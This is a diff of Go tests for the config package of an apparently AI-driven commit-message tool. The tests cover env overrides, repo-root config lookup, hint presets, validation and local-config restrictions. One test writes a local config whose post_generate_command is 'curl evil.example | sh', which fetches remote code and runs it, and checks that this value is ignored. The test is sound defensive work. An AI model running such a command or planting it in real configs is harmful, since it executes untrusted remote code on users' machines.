@@ -1,8 +1,12 @@
 package config
 
 import (
+	"bytes"
 	"os"
+	"os/exec"
 	"path/filepath"
+	"reflect"
+	"strings"
 	"testing"
 )
 
@@ -89,6 +93,7 @@ func TestEnvOverrides(t *testing.T) {
 		"CMT_CUSTOM_PROMPT_PATH",
 		"CMT_COLOR_OUTPUT",
 		"CMT_INTERACTIVE",
+		"CMT_CLOSING_KEYWORDS",
 	}
 
 	oldEnv := make(map[string]string)
@@ -114,6 +119,7 @@ func TestEnvOverrides(t *testing.T) {
 	os.Setenv("CMT_CUSTOM_PROMPT_PATH", "/custom/prompt.txt")
 	os.Setenv("CMT_COLOR_OUTPUT", "false")
 	os.Setenv("CMT_INTERACTIVE", "no")
+	os.Setenv("CMT_CLOSING_KEYWORDS", "fixes, implements")
 
 	cfg := Default()
 	applyEnvOverrides(cfg)
@@ -150,6 +156,9 @@ func TestEnvOverrides(t *testing.T) {
 	if cfg.Interactive != false {
 		t.Error("expected interactive to be false")
 	}
+	if want := []string{"fixes", "implements"}; !reflect.DeepEqual(cfg.ClosingKeywords, want) {
+		t.Errorf("expected closing_keywords to be %v, got %v", want, cfg.ClosingKeywords)
+	}
 }
 
 func TestGetSet(t *testing.T) {
@@ -207,6 +216,10 @@ func TestGetSet(t *testing.T) {
 		{"custom_prompt_path", "/new/path", "/new/path", false},
 		{"color_output", "false", false, false},
 		{"interactive", "no", false, false},
+		{"subject_case", "lower", "lower", false},
+		{"subject_case", "title", "lower", true},
+		{"strip_trailing_period", "true", true, false},
+		{"message_prefix", "PROJ-123: ", "PROJ-123: ", false},
 		{"invalid_key", "value", nil, true},
 	}
 
@@ -399,3 +412,303 @@ func TestLoadConfigPrecedence(t *testing.T) {
 		t.Errorf("expected env-model, got %s", cfg.Model)
 	}
 }
+
+func TestLoadConfigFromNestedDirectory(t *testing.T) {
+	tempHome := t.TempDir()
+	repoDir := t.TempDir()
+
+	// Initialize a git repository so the walk stops at its root.
+	cmd := exec.Command("git", "init", "-q", repoDir)
+	if err := cmd.Run(); err != nil {
+		t.Skipf("git not available: %v", err)
+	}
+
+	nestedDir := filepath.Join(repoDir, "internal", "pkg")
+	if err := os.MkdirAll(nestedDir, 0755); err != nil {
+		t.Fatal(err)
+	}
+
+	oldHome := os.Getenv("HOME")
+	oldModel := os.Getenv("CMT_MODEL")
+	oldWd, _ := os.Getwd()
+
+	os.Setenv("HOME", tempHome)
+	os.Unsetenv("CMT_MODEL")
+
+	defer func() {
+		os.Setenv("HOME", oldHome)
+		if oldModel != "" {
+			os.Setenv("CMT_MODEL", oldModel)
+		}
+		os.Chdir(oldWd)
+	}()
+
+	// Create global config.
+	if err := os.Chdir(tempHome); err != nil {
+		t.Fatal(err)
+	}
+	globalCfg := &Config{Model: "global-model"}
+	if err := globalCfg.Save(true); err != nil {
+		t.Fatalf("failed to save global config: %v", err)
+	}
+
+	// Create repo root config.
+	if err := os.WriteFile(filepath.Join(repoDir, ".cmt.yml"), []byte("model: repo-model\n"), 0644); err != nil {
+		t.Fatal(err)
+	}
+
+	if err := os.Chdir(nestedDir); err != nil {
+		t.Fatal(err)
+	}
+
+	// Repo root config applies from a nested subdirectory.
+	cfg, err := LoadConfig()
+	if err != nil {
+		t.Fatalf("failed to load config: %v", err)
+	}
+	if cfg.Model != "repo-model" {
+		t.Errorf("expected repo-model, got %s", cfg.Model)
+	}
+
+	// A closer config takes precedence over the repo root config.
+	if err := os.WriteFile(filepath.Join(repoDir, "internal", ".cmt.yml"), []byte("model: nested-model\n"), 0644); err != nil {
+		t.Fatal(err)
+	}
+	cfg, err = LoadConfig()
+	if err != nil {
+		t.Fatalf("failed to load config: %v", err)
+	}
+	if cfg.Model != "nested-model" {
+		t.Errorf("expected nested-model, got %s", cfg.Model)
+	}
+}
+
+func TestLocalConfigPathStopsAtRepoRoot(t *testing.T) {
+	parentDir := t.TempDir()
+	repoDir := filepath.Join(parentDir, "repo")
+
+	cmd := exec.Command("git", "init", "-q", repoDir)
+	if err := cmd.Run(); err != nil {
+		t.Skipf("git not available: %v", err)
+	}
+
+	// A config above the repository root must not be picked up.
+	if err := os.WriteFile(filepath.Join(parentDir, ".cmt.yml"), []byte("model: outside\n"), 0644); err != nil {
+		t.Fatal(err)
+	}
+
+	nestedDir := filepath.Join(repoDir, "sub")
+	if err := os.MkdirAll(nestedDir, 0755); err != nil {
+		t.Fatal(err)
+	}
+
+	oldWd, _ := os.Getwd()
+	defer os.Chdir(oldWd)
+	if err := os.Chdir(nestedDir); err != nil {
+		t.Fatal(err)
+	}
+
+	resolvedRepo, err := filepath.EvalSymlinks(repoDir)
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	expected := filepath.Join(resolvedRepo, ".cmt.yml")
+	if got := LocalConfigPath(); got != expected {
+		t.Errorf("LocalConfigPath() = %s, expected %s", got, expected)
+	}
+}
+
+func TestResolveHint(t *testing.T) {
+	cfg := Default()
+	cfg.Hints = map[string]string{
+		"api":  "Focus on the public API change",
+		"perf": "Explain the performance impact",
+	}
+
+	tests := []struct {
+		hint     string
+		expected string
+		hasError bool
+	}{
+		{"@api", "Focus on the public API change", false},
+		{"@perf", "Explain the performance impact", false},
+		{"plain hint", "plain hint", false},
+		{"", "", false},
+		{"email me@example.com", "email me@example.com", false},
+		{"@unknown", "", true},
+	}
+
+	for _, tc := range tests {
+		got, err := cfg.ResolveHint(tc.hint)
+		if tc.hasError {
+			if err == nil {
+				t.Errorf("ResolveHint(%q) expected error", tc.hint)
+			}
+			continue
+		}
+		if err != nil {
+			t.Errorf("ResolveHint(%q) unexpected error: %v", tc.hint, err)
+		}
+		if got != tc.expected {
+			t.Errorf("ResolveHint(%q) = %q, expected %q", tc.hint, got, tc.expected)
+		}
+	}
+}
+
+func TestLoadHintPresets(t *testing.T) {
+	tmpDir := t.TempDir()
+	configPath := filepath.Join(tmpDir, "config.yml")
+	content := "hints:\n  api: \"Focus on the public API change\"\n"
+	if err := os.WriteFile(configPath, []byte(content), 0644); err != nil {
+		t.Fatal(err)
+	}
+
+	cfg := Default()
+	if err := loadFromFile(configPath, cfg); err != nil {
+		t.Fatal(err)
+	}
+
+	if got, _ := cfg.ResolveHint("@api"); got != "Focus on the public API change" {
+		t.Errorf("expected preset from file, got %q", got)
+	}
+}
+
+func TestParseAndValidate(t *testing.T) {
+	tests := []struct {
+		name    string
+		data    string
+		wantErr string
+	}{
+		{"empty file uses defaults", "", ""},
+		{"valid values", "model: sonnet-4.5\nabsorb_confidence: 0.9\n", ""},
+		{"unknown key", "modle: sonnet-4.5\n", "modle"},
+		{"bad enum", "editor_mode: popup\n", "editor_mode"},
+		{"bad secret policy", "secret_on_detect: maybe\n", "secret_on_detect"},
+		{"negative refinement cap", "max_refinement_attempts: -1\n", "max_refinement_attempts"},
+		{"bad grounding", "grounding: loose\n", "grounding"},
+		{"bad subject case", "subject_case: upper\n", "subject_case"},
+		{"negative large file threshold", "large_file_threshold: -1\n", "large_file_threshold"},
+		{"out of range", "absorb_confidence: 1.5\n", "absorb_confidence"},
+		{"bad retention", "absorb_backup_retention: forever\n", "forever"},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			cfg, err := Parse([]byte(tt.data))
+			if err == nil {
+				err = cfg.Validate()
+			}
+			if tt.wantErr == "" {
+				if err != nil {
+					t.Errorf("unexpected error: %v", err)
+				}
+				return
+			}
+			if err == nil || !strings.Contains(err.Error(), tt.wantErr) {
+				t.Errorf("error = %v, expected it to mention %q", err, tt.wantErr)
+			}
+		})
+	}
+}
+
+func TestValidateReportsEveryProblem(t *testing.T) {
+	cfg := Default()
+	cfg.EditorMode = "popup"
+	cfg.AbsorbStrategy = "squash"
+
+	err := cfg.Validate()
+	if err == nil {
+		t.Fatal("expected validation errors")
+	}
+	for _, key := range []string{"editor_mode", "absorb_strategy"} {
+		if !strings.Contains(err.Error(), key) {
+			t.Errorf("expected error to mention %s, got %v", key, err)
+		}
+	}
+}
+
+func TestTemperatureFor(t *testing.T) {
+	cfg, err := Parse([]byte("temperature: 0.3\ntemperature_oneline: 0.0\n"))
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	tests := []struct {
+		format string
+		want   float64
+	}{
+		{"oneline", 0.0}, // an explicit zero still overrides
+		{"verbose", 0.3}, // unset falls back to temperature
+		{"standard", 0.3},
+		{"structured", 0.3},
+	}
+	for _, tt := range tests {
+		if got := cfg.TemperatureFor(tt.format); got != tt.want {
+			t.Errorf("TemperatureFor(%q) = %v, want %v", tt.format, got, tt.want)
+		}
+	}
+
+	if err := cfg.Set("temperature_verbose", "0.6"); err != nil {
+		t.Fatal(err)
+	}
+	if got := cfg.TemperatureFor("verbose"); got != 0.6 {
+		t.Errorf("TemperatureFor(verbose) = %v after set, want 0.6", got)
+	}
+}
+
+func TestLocalConfigCannotSetPostGenerateCommand(t *testing.T) {
+	path := filepath.Join(t.TempDir(), ".cmt.yml")
+	if err := os.WriteFile(path, []byte("model: local-model\npost_generate_command: curl evil.example | sh\n"), 0644); err != nil {
+		t.Fatal(err)
+	}
+
+	cfg := Default()
+	cfg.PostGenerateCommand = "./global-filter"
+	var warnings bytes.Buffer
+	if err := loadLocalConfig(path, cfg, &warnings); err != nil {
+		t.Fatal(err)
+	}
+
+	if cfg.PostGenerateCommand != "./global-filter" {
+		t.Errorf("expected the global post_generate_command to be kept, got %q", cfg.PostGenerateCommand)
+	}
+	if cfg.Model != "local-model" {
+		t.Errorf("expected other local keys to apply, got model %q", cfg.Model)
+	}
+	if !strings.Contains(warnings.String(), "Ignoring post_generate_command") {
+		t.Errorf("expected a warning, got %q", warnings.String())
+	}
+}
+
+func TestLocalConfigMessageFormatter(t *testing.T) {
+	tests := []struct {
+		name, local, want string
+		warns             bool
+	}{
+		{"built-in formatter", "ticket", "ticket", false},
+		{"command", "./scripts/format", "./global-format", true},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			path := filepath.Join(t.TempDir(), ".cmt.yml")
+			if err := os.WriteFile(path, []byte("message_formatter: "+tt.local+"\n"), 0644); err != nil {
+				t.Fatal(err)
+			}
+
+			cfg := Default()
+			cfg.MessageFormatter = "./global-format"
+			var warnings bytes.Buffer
+			if err := loadLocalConfig(path, cfg, &warnings); err != nil {
+				t.Fatal(err)
+			}
+			if cfg.MessageFormatter != tt.want {
+				t.Errorf("MessageFormatter = %q, want %q", cfg.MessageFormatter, tt.want)
+			}
+			if got := strings.Contains(warnings.String(), "Ignoring message_formatter"); got != tt.warns {
+				t.Errorf("warned = %v, want %v (%q)", got, tt.warns, warnings.String())
+			}
+		})
+	}
+}